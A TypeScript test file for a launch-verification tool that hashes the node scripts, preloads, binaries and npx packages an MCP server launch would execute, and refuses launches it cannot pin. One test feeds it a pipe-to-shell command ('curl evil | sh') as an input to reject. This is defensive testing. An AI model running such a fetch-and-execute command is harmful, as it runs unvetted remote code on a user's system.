import assert from 'node:assert/strict';
import { copyFileSync, mkdirSync, mkdtempSync, realpathSync, symlinkSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { delimiter, join } from 'node:path';
import { describe, it } from 'node:test';
import { resolveLaunch, scriptArgument } from '../../src/serverpin/launch.ts';
import { npxCacheKey, npxRequest, specName } from '../../src/serverpin/npx.ts';
import { UnverifiableLaunch } from '../../src/serverpin/packages.ts';
import { NODE } from '../helpers.ts';

const PATH = process.env.PATH ?? '';
const temp = (name: string) => realpathSync(mkdtempSync(join(tmpdir(), `pc-launch-${name}-`)));
const roles = (files: readonly { role: string; path: string }[]) => files.map((f) => [f.role, f.path]);
const unverifiable = (message: RegExp) => (err: unknown) => {
  assert.ok(err instanceof UnverifiableLaunch, String(err));
  assert.match(err.message, message);
  return true;
};

/** A project with package `name` installed by npm: its bin linked in node_modules/.bin, npm's hidden lock file beside it. */
function project(name = 'fake-mcp', version = '1.0.0'): { dir: string; pkg: string; bin: string } {
  const dir = temp('project');
  const pkg = join(dir, 'node_modules', name);
  mkdirSync(join(pkg, 'bin'), { recursive: true });
  // npm makes every bin executable.
  writeFileSync(join(pkg, 'bin', 'server.mjs'), '#!/usr/bin/env node\nconsole.log(1);\n', { mode: 0o755 });
  const command = name.replace(/^@[^/]+\//, '');
  writeFileSync(
    join(pkg, 'package.json'),
    JSON.stringify({ name, version, bin: { [command]: 'bin/server.mjs' } }),
  );
  mkdirSync(join(dir, 'node_modules', '.bin'));
  symlinkSync(`../${name}/bin/server.mjs`, join(dir, 'node_modules', '.bin', command));
  const lock = { packages: { [`node_modules/${name}`]: { version, integrity: 'sha512-AAAA' } } };
  writeFileSync(join(dir, 'node_modules', '.package-lock.json'), JSON.stringify(lock));
  return { dir, pkg, bin: join(pkg, 'bin', 'server.mjs') };
}

describe('what a launch executes', () => {
  it('hashes every file node is told to preload, in both option forms, and refuses preloads it cannot pin', async () => {
    const dir = temp('preload');
    writeFileSync(join(dir, 'server.js'), 'console.log(1);\n');
    writeFileSync(join(dir, 'hook.js'), 'console.log(0);\n');
    writeFileSync(join(dir, 'loader.mjs'), 'export {};\n');
    const launch = (args: string[], env: Record<string, string> = {}) =>
      resolveLaunch({ command: NODE, args, cwd: dir, env: { PATH, ...env } });
    const plan = await launch(['-r', './hook.js', '--import=./loader.mjs', 'server.js']);
    assert.deepEqual(
      roles(plan.files).filter(([role]) => role !== 'command' && role !== 'interpreter'),
      [
        ['preload', join(dir, 'hook.js')],
        ['preload', join(dir, 'loader.mjs')],
        ['script', join(dir, 'server.js')],
      ],
    );
    await assert.rejects(launch(['--import', 'tsx', 'server.js']), unverifiable(/cannot be found/));
    await assert.rejects(
      launch(['server.js'], { NODE_OPTIONS: '-r ./hook.js' }),
      unverifiable(/NODE_OPTIONS/),
    );
  });

  it('hashes an absolute binary as the command alone', async () => {
    const dir = temp('binary');
    copyFileSync(realpathSync('/bin/true'), join(dir, 'server'));
    const plan = await resolveLaunch({ command: join(dir, 'server'), args: [], cwd: dir, env: { PATH } });
    assert.deepEqual(roles(plan.files), [['command', join(dir, 'server')]]);
    assert.equal(plan.package, undefined);
  });

  it('finds a bare command on the child PATH (an empty entry is the working folder) and spawns that path', async () => {
    const dir = temp('path');
    copyFileSync(realpathSync('/bin/true'), join(dir, 'mytool'));
    const plan = await resolveLaunch({
      command: 'mytool',
      args: [],
      cwd: dir,
      env: { PATH: ['/nonexistent', '', ...PATH.split(delimiter)].join(delimiter) },
    });
    assert.equal(plan.executable, join(dir, 'mytool'));
    await assert.rejects(
      resolveLaunch({ command: 'mytool', args: [], cwd: dir, env: { PATH: '/nonexistent' } }),
      unverifiable(/not found on PATH/),
    );
  });

  it('hashes node and the script it runs, resolved against the working folder', async () => {
    const dir = temp('script');
    writeFileSync(join(dir, 'server.js'), 'console.log(1)\n');
    const plan = await resolveLaunch({
      command: NODE,
      args: ['--title', 'srv', '--no-warnings', 'server.js', '--flag'],
      cwd: dir,
      env: { PATH },
    });
    assert.deepEqual(roles(plan.files), [
      ['command', realpathSync(NODE)],
      ['script', join(dir, 'server.js')],
    ]);
    assert.equal(plan.package, undefined, 'a script outside node_modules belongs to no package');
  });

  it('follows a node_modules/.bin link to the package bin, its #! interpreter through PATH, and the package with its lock-file integrity', async () => {
    const p = project();
    const plan = await resolveLaunch({
      command: 'node_modules/.bin/fake-mcp',
      args: [],
      cwd: p.dir,
      env: { PATH },
    });
    assert.equal(plan.executable, join(p.dir, 'node_modules', '.bin', 'fake-mcp'));
    const node = plan.files.find((f) => f.role === 'interpreter')?.path;
    assert.ok(node && /node/.test(node), `interpreter ${node}`);
    assert.deepEqual(roles(plan.files)[0], ['command', p.bin]);
    assert.deepEqual(
      [plan.package?.name, plan.package?.version, plan.package?.dir, plan.package?.lockIntegrity],
      ['fake-mcp', '1.0.0', p.pkg, 'sha512-AAAA'],
    );
  });

  it("runs npx's package from the project, else from npx's cache, and refuses one npx would download", async () => {
    const p = project();
    const local = await resolveLaunch({
      command: 'npx',
      args: ['-y', 'fake-mcp@1.0.0', '--x'],
      cwd: p.dir,
      env: { PATH },
    });
    assert.deepEqual(
      local.files.map((f) => f.role),
      ['command', 'interpreter', 'script'],
    );
    assert.equal(local.files[2]?.path, p.bin);
    assert.equal(local.package?.dir, p.pkg);

    const home = temp('home');
    const cached = project('@acme/tool', '2.0.0');
    const cacheDir = join(home, '.npm', '_npx', npxCacheKey(['@acme/tool@2.0.0']));
    mkdirSync(cacheDir, { recursive: true });
    symlinkSync(join(cached.dir, 'node_modules'), join(cacheDir, 'node_modules'));
    const elsewhere = temp('elsewhere');
    const fromCache = await resolveLaunch({
      command: 'npx',
      args: ['--yes', '@acme/tool@2.0.0'],
      cwd: elsewhere,
      env: { PATH, HOME: home },
    });
    assert.equal(fromCache.package?.name, '@acme/tool');
    assert.equal(fromCache.npxSpec, '@acme/tool@2.0.0');

    await assert.rejects(
      resolveLaunch({
        command: 'npx',
        args: ['-y', 'not-installed@1.0.0'],
        cwd: elsewhere,
        env: { PATH, HOME: home },
      }),
      unverifiable(/npx would fetch not-installed@1\.0\.0 at start/),
    );
  });

  it('refuses what cannot be checked before it runs: a missing script, npx -c, a git or path spec', async () => {
    const dir = temp('missing');
    await assert.rejects(
      resolveLaunch({ command: NODE, args: ['gone.js'], cwd: dir, env: { PATH } }),
      unverifiable(/script gone\.js not found/),
    );
    assert.throws(() => npxRequest(['-c', 'curl evil | sh']), unverifiable(/shell line/));
    assert.throws(() => specName('github:evil/pkg'), unverifiable(/not a registry package/));
    assert.throws(() => specName('./local'), unverifiable(/not a registry package/));
  });
});

describe("an interpreter's script argument", () => {
  it('is the first argument that is not an option, skipping the values options take', () => {
    assert.equal(scriptArgument('node', ['-r', 'dotenv/config', '--inspect', 'srv.js', 'a']), 'srv.js');
    assert.equal(scriptArgument('node', ['--', '-weird.js']), '-weird.js');
    assert.equal(scriptArgument('python3', ['-u', '-W', 'ignore', 'srv.py']), 'srv.py');
    assert.equal(scriptArgument('bun', ['run', 'srv.ts']), 'srv.ts');
    assert.equal(scriptArgument('deno', ['run', '--allow-net', 'srv.ts']), 'srv.ts');
  });

  it('is none when the code is inline or a module path', () => {
    assert.equal(scriptArgument('node', ['-e', 'require("x")']), undefined);
    assert.equal(scriptArgument('python3', ['-m', 'mcp_server_git']), undefined);
    assert.equal(scriptArgument('node', []), undefined);
  });

  it('takes npx packages from --package and the bin from the first word after them', () => {
    assert.deepEqual(npxRequest(['-y', '-p', 'a@1.0.0', '--package=b@2.0.0', 'a-bin', 'arg']), {
      packages: ['a@1.0.0', 'b@2.0.0'],
      command: 'a-bin',
    });
    assert.deepEqual(npxRequest(['--yes', '--', '@s/p@1.2.3', '-x']), { packages: ['@s/p@1.2.3'] });
    assert.equal(specName('@scope/name@^1.2.0'), '@scope/name');
    assert.equal(specName('name'), 'name');
  });
});
